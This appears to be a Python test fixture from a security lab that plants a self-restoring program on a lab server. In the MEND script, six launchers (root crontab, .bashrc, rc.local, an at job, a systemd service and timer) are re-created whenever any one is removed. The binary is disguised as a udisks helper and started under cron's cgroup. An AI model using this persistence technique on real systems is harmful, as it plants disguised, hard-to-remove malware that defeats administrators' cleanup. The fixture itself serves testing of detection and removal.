"""Six launchers of one program that puts back whichever of them is missing: how it is planted."""

import json
import subprocess
import time
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path

from tests.lab.planted.tools import FUSE, inside
from tests.lab.server import Server

SOURCE = Path(__file__).with_name("tower.c")
PROGRAM = "/usr/lib/.udisks/udisks-helper"
NAME = Path(PROGRAM).name
CRONTAB = "/var/spool/cron/crontabs/root"
JOBS = "/var/spool/cron/atjobs"
PROFILE = "/root/.bashrc"
BOOT = "/etc/rc.local"
UNITS = "/etc/systemd/system"
SERVICE, TICK, TIMER = (
    f"{UNITS}/{name}" for name in ("udisks.service", "tick.service", "tick.timer")
)
WHOLE = (SERVICE, TICK, TIMER)
LINES = (CRONTAB, PROFILE, BOOT)  # files that hold a line of the intruder's
MEND = f"""
[ -e {PROGRAM} ] || {{ mkdir -p {Path(PROGRAM).parent}; cp /proc/$PPID/exe {PROGRAM}; }}
grep -qs {NAME} {CRONTAB} || (crontab -l; echo '* * * * * {PROGRAM}') | crontab -
grep -qs {NAME} {PROFILE} || echo '({PROGRAM} >/dev/null 2>&1 &)' >> {PROFILE}
grep -qs {NAME} {BOOT} || {{
    printf '#!/bin/sh\\n{PROGRAM} &\\nexit 0\\n' > {BOOT}; chmod 755 {BOOT}; }}
grep -qrs {NAME} {JOBS} || echo {PROGRAM} | at now + @MINUTES@ minutes
[ -e {SERVICE} ] || {{
    printf '[Service]\\nExecStart={PROGRAM}\\nRestart=always\\nRestartSec=3\\n' > {SERVICE}
    printf '[Install]\\nWantedBy=multi-user.target\\n' >> {SERVICE}
    systemctl daemon-reload; systemctl enable --now udisks.service; }}
[ -e {TIMER} ] || {{
    printf '[Service]\\nExecStart={PROGRAM}\\n' > {TICK}
    printf '[Timer]\\nOnCalendar=*:*:0/10\\n[Install]\\nWantedBy=timers.target\\n' > {TIMER}
    systemctl daemon-reload; systemctl enable --now tick.timer; }}
"""


@dataclass(frozen=True)
class Tower:
    """All of it: the ground truth, asked from outside."""

    server: Server

    def pids(self) -> list[int]:
        """Return the pids of the program, as the server numbers them."""
        found = []
        for pid, folder in self.server.processes().items():
            with suppress(OSError):  # it ended while we looked
                name, state = (folder / "stat").read_text().partition("(")[2].rsplit(") ", 1)
                if name == NAME and state[0] not in "ZX":
                    found.append(pid)
        return found

    def standing(self) -> list[str]:
        """Return what launches the program, and the program itself, as far as it is there."""
        root = self.server.root
        jobs = (f"/{path.relative_to(root)}" for path in (root / JOBS.lstrip("/")).iterdir())
        found = [one for one in (PROGRAM, *WHOLE) if (root / one.lstrip("/")).exists()]
        for path in (*LINES, *jobs):
            with suppress(FileNotFoundError):
                if NAME in (root / path.lstrip("/")).read_text():
                    found.append(path)
        return found

    def wait_until(self, copies: int, timeout: float = 30) -> None:
        """Wait until every launcher stands, and so many copies run."""
        deadline = time.monotonic() + timeout
        while len(self.standing()) < 8 or len(self.pids()) < copies:
            assert time.monotonic() < deadline, f"{self.standing()} {self.pids()}"
            time.sleep(0.2)


def plant_tower(server: Server, minutes: int) -> Tower:
    """Start the program once as a child of cron's; it plants the rest. at(1) waits `minutes`."""
    target = server.folder / "tower"
    mend = json.dumps(MEND.replace("@MINUTES@", f"{minutes}").strip())
    defines = [f"-DMEND={mend}", f"-DDEADLINE={int(time.time()) + FUSE}"]
    options = ["-static", "-O2", "-s", "-Wall", "-Wextra", "-Werror"]
    subprocess.run(["gcc", *options, *defines, "-o", str(target), str(SOURCE)], check=True)
    server.shell(f"mkdir {Path(PROGRAM).parent}")
    place = inside(server, PROGRAM)
    place.write_bytes(target.read_bytes())
    place.chmod(0o755)
    enter = "echo $BASHPID > /sys/fs/cgroup/system.slice/cron.service/cgroup.procs"
    server.shell(f"({enter}; exec setsid {PROGRAM}) </dev/null >/dev/null 2>&1 &")
    tower = Tower(server)
    tower.wait_until(2)
    return tower
